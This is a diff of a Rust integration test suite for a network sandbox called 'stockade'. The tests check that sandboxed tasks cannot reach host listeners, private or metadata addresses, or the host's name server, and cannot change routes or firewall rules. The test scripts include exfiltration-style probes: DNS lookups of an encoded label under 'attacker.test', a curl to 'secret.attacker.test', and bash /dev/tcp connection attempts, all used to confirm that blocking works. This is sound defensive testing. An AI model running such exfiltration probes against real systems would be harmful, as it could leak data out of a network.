@@ -5,135 +5,364 @@
 mod host;
 
 use std::{
-    io::ErrorKind,
-    net::{TcpListener, UdpSocket},
+    collections::BTreeMap,
+    fs,
+    net::{IpAddr, Ipv4Addr, Ipv6Addr, TcpListener, UdpSocket},
 };
 
-use stockade_audit::RecordKind;
-use stockade_types::EventKind;
+use crate::host::{Host, eventually, finish, has, skip};
 
-use crate::host::{Host, Task, skip};
-
-/// The one task that there is.
-fn only_task(host: &Host) -> Task {
-    host.task(host.json(&["ls"])[0]["id"].as_str().unwrap())
+/// A host whose repository holds the scripts; nothing without perl.
+fn host_with_scripts() -> Option<Host> {
+    if !has("perl") {
+        skip("everything here", "there is no perl to run the scripts");
+        return None;
+    }
+    let host = Host::new();
+    for (name, content) in [
+        ("knock.pl", include_str!("scripts/knock.pl")),
+        ("serve.pl", include_str!("scripts/serve.pl")),
+    ] {
+        fs::write(host.repository().join(name), content).unwrap();
+    }
+    host.git(&["add", "--all"]);
+    host.git(&["commit", "--quiet", "--message", "Scripts"]);
+    Some(host)
 }
 
-fn has(program: &str) -> bool {
-    host::PATH
-        .split(':')
-        .any(|folder| std::path::Path::new(folder).join(program).exists())
+/// Listeners of the host at every address of both families.
+struct Ears {
+    tcp: Vec<TcpListener>,
+    udp: Vec<UdpSocket>,
+    /// What to knock at: kind, address and port.
+    doors: Vec<[String; 3]>,
+}
+
+impl Ears {
+    fn open(names: [&[&str]; 2]) -> Self {
+        let mut ears = Self {
+            tcp: Vec::new(),
+            udp: Vec::new(),
+            doors: Vec::new(),
+        };
+        let families = [
+            IpAddr::from(Ipv4Addr::UNSPECIFIED),
+            Ipv6Addr::UNSPECIFIED.into(),
+        ];
+        for (family, names) in families.into_iter().zip(names) {
+            let (Ok(tcp), Ok(udp)) = (TcpListener::bind((family, 0)), UdpSocket::bind((family, 0)))
+            else {
+                skip(&family.to_string(), "the machine has no such addresses");
+                continue;
+            };
+            tcp.set_nonblocking(true).unwrap();
+            udp.set_nonblocking(true).unwrap();
+            let ports = [("tcp", tcp.local_addr()), ("udp", udp.local_addr())];
+            for (kind, address) in ports {
+                let port = address.unwrap().port().to_string();
+                ears.doors.extend(
+                    names
+                        .iter()
+                        .map(|name| [kind.into(), (*name).to_owned(), port.clone()]),
+                );
+            }
+            ears.tcp.push(tcp);
+            ears.udp.push(udp);
+        }
+        ears
+    }
+
+    /// How often something was heard since the last time.
+    fn heard(&self) -> usize {
+        let connections = self
+            .tcp
+            .iter()
+            .flat_map(|ear| std::iter::from_fn(|| ear.accept().ok().map(drop)));
+        let datagrams = self
+            .udp
+            .iter()
+            .flat_map(|ear| std::iter::from_fn(|| ear.recv(&mut [0; 64]).ok().map(drop)));
+        connections.count() + datagrams.count()
+    }
+}
+
+/// The addresses by which others reach this machine; no packet is sent.
+fn own_addresses() -> Vec<String> {
+    [
+        (IpAddr::from(Ipv4Addr::UNSPECIFIED), "198.51.100.1"),
+        (Ipv6Addr::UNSPECIFIED.into(), "2001:db8::1"),
+    ]
+    .into_iter()
+    .filter_map(|(any, there)| {
+        let socket = UdpSocket::bind((any, 0)).ok()?;
+        socket.connect((there, 9)).ok()?;
+        Some(socket.local_addr().ok()?.ip().to_string())
+    })
+    .collect()
 }
 
 #[test]
 fn g2_a_listener_on_the_host_hears_nothing_by_any_address() {
-    let host = Host::new();
-    let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
-    let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
-    tcp.set_nonblocking(true).unwrap();
-    udp.set_nonblocking(true).unwrap();
-    let (port, datagrams) = (
-        tcp.local_addr().unwrap().port(),
-        udp.local_addr().unwrap().port(),
-    );
-    // The positive control: from outside, the listener is there.
-    drop(std::net::TcpStream::connect(("127.0.0.1", port)).unwrap());
-    host::eventually("the listener hears the host", || tcp.accept().is_ok());
-    let addresses = "127.0.0.1 0.0.0.0 127.1 2130706433 0177.1 localhost 10.0.0.1 169.254.169.254 ::1 ::ffff:127.0.0.1";
-    let script = format!(
-        "for a in {addresses}; do timeout 3 bash -c \"echo x > /dev/tcp/$a/{port}\" 2>/dev/null; \
-         timeout 3 bash -c \"echo x > /dev/udp/$a/{datagrams}\" 2>/dev/null; done; echo tried"
-    );
-    assert_eq!(host.look(&script), "tried\n");
-    assert_eq!(tcp.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
-    assert_eq!(
-        udp.recv(&mut [0; 8]).unwrap_err().kind(),
-        ErrorKind::WouldBlock
-    );
-}
-
-#[test]
-fn g2_names_are_answered_inside_with_addresses_that_lead_to_the_gateway() {
-    let host = Host::new();
-    let printed = host.look(
-        "getent ahostsv4 anything.example | head -1; getent ahostsv4 another.example | head -1",
-    );
-    let answers: Vec<&str> = printed
-        .lines()
-        .filter_map(|line| line.split_whitespace().next())
-        .collect();
-    assert_eq!(answers.len(), 2, "{printed}");
-    assert!(
-        answers.iter().all(|answer| answer.starts_with("198.18.")),
-        "{printed}"
-    );
-    assert_ne!(answers[0], answers[1]);
-}
-
-#[test]
-fn g2_a_host_without_a_rule_is_refused_with_a_sentence_that_programs_can_read() {
-    if !has("curl") {
-        return skip("the refusal as curl sees it", "curl is not installed");
+    let Some(host) = host_with_scripts() else {
+        return;
+    };
+    let own = own_addresses();
+    let mut names = [
+        vec![
+            "127.0.0.1",
+            "127.1",
+            "2130706433",
+            "0177.0.0.1",
+            "0x7f.1",
+            "0.0.0.0",
+            "127.3.2.1",
+        ],
+        vec!["::1", "::"],
+    ];
+    for address in &own {
+        names[usize::from(address.contains(':'))].push(address);
     }
+    let ears = Ears::open([&names[0], &names[1]]);
+    let words: Vec<&str> = ears.doors.iter().flatten().map(String::as_str).collect();
+
+    // The same words from outside: every one is heard.
+    let mut outside = host.other_command("perl");
+    outside.args(["knock.pl", "0.2"]).args(&words);
+    let outcome = finish(outside);
+    assert_eq!(outcome.code, 0, "{outcome:?}");
+    let heard = ears.heard();
+    assert_eq!(heard, ears.doors.len(), "{outcome:?}");
+
+    // Inside, in addition, what only has a meaning there.
+    let mut more: Vec<[&str; 3]> = Vec::new();
+    for door in &ears.doors {
+        for name in [
+            "localhost",
+            "stockade",
+            "host.docker.internal",
+            "192.0.2.1",
+            "::ffff:127.0.0.1",
+        ] {
+            more.push([&door[0], name, &door[2]]);
+        }
+    }
+    let mut inside = vec!["run", "--", "perl", "knock.pl", "3"];
+    inside.extend(&words);
+    inside.extend(more.iter().flatten());
+    let outcome = host.stockade(&inside);
+    assert_eq!(outcome.code, 0, "{outcome:?}");
+    let lines = outcome.stdout.lines().count();
+    assert_eq!(lines, ears.doors.len() + more.len(), "{outcome:?}");
+    assert!(!outcome.stdout.contains("no socket"), "{outcome:?}");
+    assert_eq!(ears.heard(), 0, "{outcome:?}");
+}
+
+/// A network of its own, in which the host's name server is a script that
+/// notes each question. `$1` is a folder for its files, the rest a command.
+const WITH_NAME_SERVER: &str = r#"
+perl -e 'exit 0' || exit 77
+ip link set lo up && echo nameserver 127.0.0.1 > "$1/resolv.conf" && mount --bind "$1/resolv.conf" /etc/resolv.conf || exit 77
+perl "$1/name-server.pl" "$1/questions" & server=$!
+trap 'kill $server' EXIT
+until grep -qs ready "$1/questions"; do kill -0 $server || exit 77; sleep 0.01; done
+shift; "$@"
+"#;
+
+#[test]
+fn g2_names_are_answered_inside_and_the_hosts_name_server_is_asked_nothing() {
     let host = Host::new();
-    let printed = host.look(
-        "curl -sS --max-time 10 -o /tmp/b -w '%{http_code}\\n' https://example.com/x; cat /tmp/b; echo; \
-         curl -sS --max-time 10 -o /tmp/c -w '%{http_code}\\n' http://example.com/y; cat /tmp/c",
-    );
-    assert_eq!(
-        printed.lines().filter(|line| *line == "403").count(),
-        2,
-        "{printed}"
-    );
+    let folder = host.path("names");
+    fs::create_dir(&folder).unwrap();
+    let server = include_str!("scripts/name-server.pl");
+    fs::write(folder.join("name-server.pl"), server).unwrap();
+    let folder = folder.to_str().unwrap();
+    let questions = || fs::read_to_string(host.path("names/questions")).unwrap_or_default();
+
+    let in_own_network = |command: &[&str]| {
+        let mut unshare = host.other_command("unshare");
+        if host::is_root() {
+            unshare.args(["--net", "--mount"]);
+        } else {
+            unshare.args(["--user", "--map-root-user", "--net", "--mount"]);
+        }
+        unshare.args(["--", "sh", "-c", WITH_NAME_SERVER, "sh", folder]);
+        if !host::is_root() {
+            // Stockade shall take itself for what it is, an ordinary user's.
+            unshare.args([
+                "unshare",
+                "--user",
+                "--map-user=1000",
+                "--map-group=1000",
+                "--",
+            ]);
+        }
+        finish({
+            unshare.args(command);
+            unshare
+        })
+    };
+    // The host's own question is noted: the control.
+    let control = in_own_network(&["getent", "ahosts", "control.example"]);
+    if !questions().contains("asked control.example.") {
+        let reason = format!("no network of its own to watch: {}", control.stderr);
+        return skip("what the host's name server is asked", &reason);
+    }
+    let before = questions();
+    let script = "for n in anything.example another.example c2hhZG93.attacker.test; do getent ahostsv4 $n | head -1; done; \
+        curl -s --max-time 10 -o /dev/null -w '%{http_code}\\n' https://secret.attacker.test/ || echo 403; \
+        perl -MSocket -e '$_ = gethostbyname(\"perl.attacker.test\") and print inet_ntoa($_), \"\\n\"'";
+    let stockade = env!("CARGO_BIN_EXE_stockade");
+    let outcome = in_own_network(&[stockade, "run", "--", "bash", "-c", script]);
+    assert_eq!(outcome.code, 0, "{outcome:?}");
+    let after = questions();
+    let asked = after.trim_start_matches(before.as_str());
+    assert_eq!(asked, "ready\n", "the host's name server was asked");
+
+    let lines: Vec<&str> = outcome.stdout.lines().collect();
+    assert_eq!(lines.len(), 5, "{outcome:?}");
+    assert_eq!(lines[3], "403", "{outcome:?}");
+    let mut answers: Vec<&str> = [0, 1, 2, 4]
+        .into_iter()
+        .filter_map(|line| lines[line].split_whitespace().next())
+        .filter(|address| address.starts_with("198.18.") || address.starts_with("198.19."))
+        .collect();
+    answers.sort_unstable();
+    answers.dedup();
+    assert_eq!(answers.len(), 4, "one address for each name: {outcome:?}");
+}
+
+#[test]
+fn g2_addresses_are_refused_whatever_is_spoken() {
+    let Some(host) = host_with_scripts() else {
+        return;
+    };
+    let addresses = [
+        "1.1.1.1",
+        "93.184.216.34",
+        "10.0.0.1",
+        "172.16.0.1",
+        "192.168.0.1",
+        "169.254.169.254",
+        "100.64.0.1",
+        "224.0.0.1",
+        "198.18.77.77",
+        "2606:4700::1111",
+        "fd00:ec2::254",
+    ];
+    let mut words = vec!["run", "--", "perl", "knock.pl", "3"];
+    for address in addresses {
+        for port in ["80", "22", "8443"] {
+            words.extend(["tcp", address, port]);
+        }
+    }
+    let outcome = host.stockade(&words);
+    assert_eq!(outcome.code, 0, "{outcome:?}");
+    let answers: Vec<&str> = outcome.stdout.lines().collect();
+    assert_eq!(answers.len(), 3 * addresses.len(), "{outcome:?}");
+    for answer in answers {
+        let refused = answer.contains("answered HTTP/1.1 403")
+            || answer.contains("unreachable")
+            || answer.contains("refused")
+            || answer.contains("Invalid argument");
+        assert!(refused, "{answer}");
+    }
+    let rules: Vec<String> = host
+        .only_task()
+        .denied()
+        .into_iter()
+        .map(|(_, _, rule)| rule)
+        .collect();
+    assert!(rules.len() >= 3 * 9, "{rules:?}");
     assert!(
-        printed.contains("\"rule\"") && printed.contains("example.com"),
-        "{printed}"
-    );
-    let denied = only_task(&host)
-        .record()
-        .iter()
-        .filter(|record| record.kind == RecordKind::Event(EventKind::Denied))
-        .count();
-    assert_eq!(denied, 2);
-    let why = host.json(&["why"]);
-    assert_eq!(why["kind"], "denied", "{why}");
-    let told = host.stockade(&["why"]).stdout;
-    assert!(
-        told.contains("rule") && told.contains("example.com"),
-        "{told}"
+        rules.iter().all(|rule| rule == "network.address-literal"),
+        "{rules:?}"
     );
 }
 
 #[test]
-fn g2_addresses_and_the_capture_port_itself_are_refused() {
-    let host = Host::new();
-    let printed = host.look(
-        "for to in 1.1.1.1/443 93.184.216.34/80 127.0.0.1/15001; do \
-         timeout 5 bash -c \"exec 3<>/dev/tcp/$to && printf 'GET / HTTP/1.0\\r\\nHost: x.example\\r\\n\\r\\n' >&3 && cat <&3\" 2>/dev/null | head -c 400 | grep -q '200 OK' && echo ANSWERED; done; echo tried",
+fn g2_the_capture_port_itself_leads_nowhere_and_cannot_be_taken() {
+    let Some(host) = host_with_scripts() else {
+        return;
+    };
+    let task = host.start("sleep 1000");
+    let (code, printed) = host.exec(
+        &task,
+        "perl knock.pl 3 tcp 127.0.0.1 15001 tcp ::1 15001 tcp localhost 15001 tcp 0.0.0.0 15001; \
+         perl -MSocket -e 'for my $port (15001, 53) { for my $host (\"127.0.0.1\", \"0.0.0.0\") { socket(S, PF_INET, SOCK_STREAM, 0) or die; \
+           setsockopt(S, SOL_SOCKET, $_, 1) for SO_REUSEADDR, 15; print \"TOOK $host $port\\n\" if bind(S, sockaddr_in($port, inet_aton($host))) and listen(S, 1) } }'",
     );
-    assert_eq!(printed, "tried\n");
+    assert_eq!(code, 0, "{printed}");
+    assert_eq!(printed.lines().count(), 4, "{printed}");
+    for line in printed.lines() {
+        let nothing =
+            line.contains(": closed") || line.contains("reset") || line.contains("refused");
+        assert!(nothing, "{line}");
+    }
+    // It did no harm: the gateway is there, and nothing was passed on in a circle.
+    let (_, printed) = host.exec(&task, "perl knock.pl 3 tcp still.example 80");
+    assert!(printed.contains("answered HTTP/1.1 4"), "{printed}");
+    let seen = task.denied();
+    assert_eq!(seen.len(), 1, "{seen:?}");
 }
 
 #[test]
 fn datagrams_to_anywhere_are_refused_at_once() {
-    let host = Host::new();
-    let printed = host.look(
-        "perl -e 'use Socket; use Time::HiRes \"time\"; socket(S, PF_INET, SOCK_DGRAM, 0); \
-         connect(S, sockaddr_in(443, inet_aton(\"9.9.9.9\"))); $t = time; send(S, \"x\", 0); \
-         $r = sysread(S, $b, 1); printf \"%s %s\\n\", defined $r ? \"read\" : $!, time - $t < 1 ? \"soon\" : \"late\"'",
-    );
-    assert_eq!(printed, "Connection refused soon\n");
+    let Some(host) = host_with_scripts() else {
+        return;
+    };
+    let outcome = host.stockade(&[
+        "run",
+        "--",
+        "perl",
+        "knock.pl",
+        "3",
+        "udp",
+        "9.9.9.9",
+        "443",
+        "udp",
+        "8.8.8.8",
+        "53",
+        "udp",
+        "127.0.0.1",
+        "9",
+        "udp",
+        "10.1.2.3",
+        "123",
+        "udp",
+        "2001:4860:4860::8888",
+        "53",
+        "udp",
+        "quic.example",
+        "443",
+        "udp",
+        "192.0.2.1",
+        "53",
+    ]);
+    assert_eq!(outcome.code, 0, "{outcome:?}");
+    assert_eq!(outcome.stdout.lines().count(), 7, "{outcome:?}");
+    for line in outcome.stdout.lines() {
+        assert!(line.contains(": Connection refused (0."), "{line}");
+    }
 }
 
 #[test]
 fn servers_inside_reach_each_other_and_two_tasks_use_the_same_port() {
-    let host = Host::new();
-    let script = "perl -e 'use IO::Socket::INET; $s = IO::Socket::INET->new(LocalAddr => \"127.0.0.1:3000\", Listen => 1, ReuseAddr => 1) or die $!; \
-         if (fork) { $c = $s->accept; print <$c>; wait } else { sleep 1; $c = IO::Socket::INET->new(\"127.0.0.1:3000\") or die $!; print $c \"hello\\n\" }'; sleep 1";
-    let tasks = [host.start(script), host.start(script)];
-    for task in &tasks {
-        assert_eq!(host.wait_for_state(task, "done")["exit"], 0);
-        assert_eq!(host.stockade(&["logs", &task.id]).stdout, "hello\n");
+    let Some(host) = host_with_scripts() else {
+        return;
+    };
+    let words = ["first", "second"];
+    let tasks = words.map(|word| host.start(&format!("exec perl serve.pl 3000 {word}")));
+    let mut answers: BTreeMap<&str, String> = BTreeMap::new();
+    for (task, word) in tasks.iter().zip(words) {
+        let ask = "for h in localhost 127.0.0.1 stockade 0.0.0.0; do \
+            perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"$ARGV[0]:3000\", Timeout => 5) or exit 1; \
+            print $s \"GET / HTTP/1.0\\r\\n\\r\\n\"; local $/; $_ = <$s>; print /\\r\\n\\r\\n(.*)/s, \" \"' $h || exit 1; done";
+        eventually(&format!("{word} serves"), || {
+            let (code, printed) = host.exec(task, ask);
+            answers.insert(word, printed);
+            code == 0
+        });
+        assert_eq!(answers[word], format!("{word} {word} {word} {word} "));
     }
 }
 
@@ -148,7 +377,10 @@ fn routes_and_rules_cannot_be_changed_inside() {
     let host = Host::new();
     let printed = host.look(
         "ip link set lo down 2>/dev/null && echo DOWN; ip route flush table all 2>/dev/null && echo FLUSHED; \
-         ip link add x type dummy 2>/dev/null && echo ADDED; nft flush ruleset 2>/dev/null && echo RULES; echo tried",
+         ip link add x type dummy 2>/dev/null && echo ADDED; ip route add 203.0.113.0/24 dev lo 2>/dev/null && echo ROUTED; \
+         ip address add 203.0.113.1/32 dev lo 2>/dev/null && echo ADDRESSED; ip rule add from all lookup 7 2>/dev/null && echo RULED; \
+         nft flush ruleset 2>/dev/null && echo FLUSHED; nft list ruleset 2>/dev/null && echo LISTED; echo tried; \
+         getent ahostsv4 still.example >/dev/null && echo works",
     );
-    assert_eq!(printed, "tried\n");
+    assert_eq!(printed, "tried\nworks\n");
 }
